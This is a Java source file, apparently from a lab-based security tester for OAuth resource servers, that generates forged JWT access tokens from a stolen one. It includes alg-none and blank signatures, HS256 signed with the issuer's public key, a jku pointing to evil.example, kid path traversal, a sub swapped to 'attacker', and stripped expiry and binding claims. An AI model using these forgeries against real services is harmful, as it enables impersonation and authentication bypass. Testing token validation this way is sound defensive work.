package dev.countersign.attacker.recipe.resource;

import dev.countersign.attacker.forge.Keys;
import dev.countersign.attacker.play.Jwt;
import dev.countersign.attacker.play.Lab;
import dev.countersign.attacker.wire.Answer;
import dev.countersign.attacker.wire.Move;
import dev.countersign.attacker.wire.Outgoing;
import dev.countersign.protocol.jose.InvalidJwkException;
import dev.countersign.protocol.jose.PublicJwk;
import dev.countersign.protocol.jose.SigningKey;
import dev.countersign.protocol.json.JsonObject;
import dev.countersign.protocol.json.MalformedJsonException;
import java.io.IOException;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Optional;

/** Makes access tokens that nobody issued, as like to a real one as can be. */
final class Forgeries {
  private static final long HOUR = 3600;
  private static final int HUGE = 75_000;

  private Forgeries() {}

  /**
   * One of them.
   *
   * @param what in words
   * @param token as it is sent
   */
  record Forgery(String what, String token) {

    /** Its name. */
    @Override
    public String toString() {
      return what;
    }
  }

  /** All of them. */
  static List<Forgery> of(Stolen stolen, Lab lab) throws IOException {
    Jwt real = real(stolen, lab);
    SigningKey ours = lab.newKey();
    Jwt forged = real.signedBy(lab.jose(), ours);
    List<Forgery> all = new ArrayList<>();
    unsigned(all, real);
    byOurKey(all, forged, ours, lab);
    byPublicKeys(all, real, lab);
    altered(all, stolen.token());
    return all;
  }

  /** A very long one. */
  static String huge(Stolen stolen, Lab lab) {
    return real(stolen, lab)
        .with("more", "m".repeat(HUGE))
        .signedBy(lab.jose(), lab.newKey())
        .compact();
  }

  private static void unsigned(List<Forgery> all, Jwt real) {
    for (String alg : List.of("none", "None", "")) {
      all.add(forgery("alg '" + alg + "'", real.header("alg", alg).signedBy(_ -> new byte[0])));
    }
    all.add(forgery("no alg", real.withoutHeader("alg").signedBy(_ -> new byte[0])));
    all.add(forgery("no signature", real.signedBy(_ -> new byte[0])));
    all.add(forgery("a signature of zeros", real.signedBy(_ -> new byte[64])));
  }

  private static void byOurKey(List<Forgery> all, Jwt forged, SigningKey ours, Lab lab) {
    long now = lab.now().getEpochSecond();
    all.add(forgery("another's key under the issuer's kid", forged));
    all.add(forgery("an unknown kid", forged.header("kid", ours.kid())));
    all.add(forgery("no kid", forged.withoutHeader("kid")));
    all.add(
        forgery(
            "the key in the header",
            forged.withoutHeader("kid").header("jwk", ours.publicJwk().requiredMembers())));
    all.add(forgery("a URL of keys", forged.header("jku", "https://evil.example/jwks")));
    all.add(forgery("a kid that is a path", forged.header("kid", "../../../../dev/null")));
    all.add(forgery("typ JWT", forged.header("typ", "JWT")));
    all.add(forgery("no typ", forged.withoutHeader("typ")));
    all.add(forgery("another issuer", forged.with("iss", "https://evil.example")));
    all.add(forgery("another audience", forged.with("aud", "https://evil.example")));
    all.add(forgery("no audience", forged.without("aud")));
    all.add(forgery("expired", forged.with("exp", now - HOUR)));
    all.add(forgery("no end", forged.without("exp")));
    all.add(forgery("not bound to a key", forged.without("cnf")));
    all.add(
        forgery(
            "two sub",
            forged.rawClaims(forged.claims().replaceFirst("\\{", "{\"sub\":\"attacker\","))));
    all.add(forgery("claims that are no JSON", forged.rawClaims("token")));
  }

  /** What everybody can read, taken for a shared secret. */
  private static void byPublicKeys(List<Forgery> all, Jwt real, Lab lab) throws IOException {
    for (JsonObject jwk : keys(lab)) {
      Jwt.Signer json = Keys.hmac(jwk.toBytes());
      all.add(forgery("HS256 by the issuer's JWK", real.header("alg", "HS256").signedBy(json)));
      Optional<byte[]> spki = encoded(jwk);
      if (spki.isPresent()) {
        Jwt confused = real.header("alg", "HS256");
        all.add(
            forgery("HS256 by the issuer's public key", confused.signedBy(Keys.hmac(spki.get()))));
        all.add(
            forgery(
                "HS256 by the issuer's public key as PEM",
                confused.signedBy(Keys.hmac(pem(spki.get())))));
      }
    }
  }

  /** The real one, changed in one place. */
  private static void altered(List<Forgery> all, String token) {
    String[] parts = token.split("\\.", -1);
    if (parts.length != 3) {
      all.add(new Forgery("a changed token", changed(token)));
      all.add(new Forgery("a token that is cut", token.substring(0, token.length() - 1)));
      return;
    }
    all.add(
        new Forgery("a changed signature", parts[0] + "." + parts[1] + "." + changed(parts[2])));
    all.add(new Forgery("a cut signature", token.substring(0, token.length() - 4)));
    parse(parts[1])
        .ifPresent(
            claims ->
                all.add(
                    new Forgery(
                        "another person",
                        parts[0]
                            + "."
                            + encode(
                                claims.without("sub").toBuilder().put("sub", "attacker").build())
                            + "."
                            + parts[2])));
    parse(parts[0])
        .ifPresent(
            header ->
                all.add(
                    new Forgery(
                        "another type",
                        encode(header.without("typ").toBuilder().put("typ", "JWT").build())
                            + "."
                            + parts[1]
                            + "."
                            + parts[2])));
  }

  /** Header and claims of the real token; where they cannot be read, likely ones. */
  private static Jwt real(Stolen stolen, Lab lab) {
    String[] parts = stolen.token().split("\\.", -1);
    JsonObject header =
        Optional.of(parts)
            .filter(those -> those.length == 3)
            .flatMap(those -> parse(those[0]))
            .orElseGet(() -> JsonObject.builder().put("alg", "ES256").put("typ", "at+jwt").build());
    JsonObject claims =
        Optional.of(parts)
            .filter(those -> those.length == 3)
            .flatMap(those -> parse(those[1]))
            .orElseGet(() -> likely(stolen, lab));
    return new Jwt(header.toJson(), claims.toJson(), _ -> new byte[0]);
  }

  private static JsonObject likely(Stolen stolen, Lab lab) {
    long now = lab.now().getEpochSecond();
    JsonObject jkt =
        JsonObject.builder().put("jkt", stolen.client().dpopKey().thumbprint().value()).build();
    return JsonObject.builder()
        .put("iss", lab.server().issuer().value())
        .put("aud", stolen.resource().indicator().orElse(stolen.resource().url().toString()))
        .put("sub", lab.victim().name())
        .put("client_id", stolen.client().id())
        .put("scope", stolen.client().client().scope())
        .put("jti", lab.random128())
        .put("iat", now)
        .put("exp", now + HOUR)
        .put("cnf", jkt)
        .build();
  }

  private static List<JsonObject> keys(Lab lab) throws IOException {
    Optional<URI> url = lab.server().endpoint("jwks_uri");
    if (url.isEmpty()) {
      return List.of();
    }
    Answer answer =
        lab.line()
            .send(
                new Outgoing(
                    Move.OTHER, "GET", url.get(), List.of(), new byte[0], Optional.empty()));
    try {
      Optional<JsonObject> set = answer.json();
      return set.isPresent() ? set.get().objects("keys").orElse(List.of()) : List.of();
    } catch (MalformedJsonException e) {
      return List.of();
    }
  }

  private static Optional<byte[]> encoded(JsonObject jwk) {
    try {
      return Optional.of(PublicJwk.parse(jwk).key().getEncoded());
    } catch (InvalidJwkException e) {
      return Optional.empty();
    }
  }

  private static byte[] pem(byte[] spki) {
    String text =
        "-----BEGIN PUBLIC KEY-----\n"
            + Base64.getMimeEncoder(64, new byte[] {'\n'}).encodeToString(spki)
            + "\n-----END PUBLIC KEY-----\n";
    return text.getBytes(StandardCharsets.US_ASCII);
  }

  private static Forgery forgery(String what, Jwt jwt) {
    return new Forgery(what, jwt.compact());
  }

  /** In the middle, where no bits are left over. */
  private static String changed(String text) {
    int at = text.length() / 2;
    return text.substring(0, at) + (text.charAt(at) == 'A' ? 'B' : 'A') + text.substring(at + 1);
  }

  private static Optional<JsonObject> parse(String part) {
    try {
      return Optional.of(
          JsonObject.parse(
              new String(Base64.getUrlDecoder().decode(part), StandardCharsets.UTF_8)));
    } catch (MalformedJsonException | IllegalArgumentException e) {
      return Optional.empty();
    }
  }

  private static String encode(JsonObject part) {
    return Keys.base64(part.toBytes());
  }
}
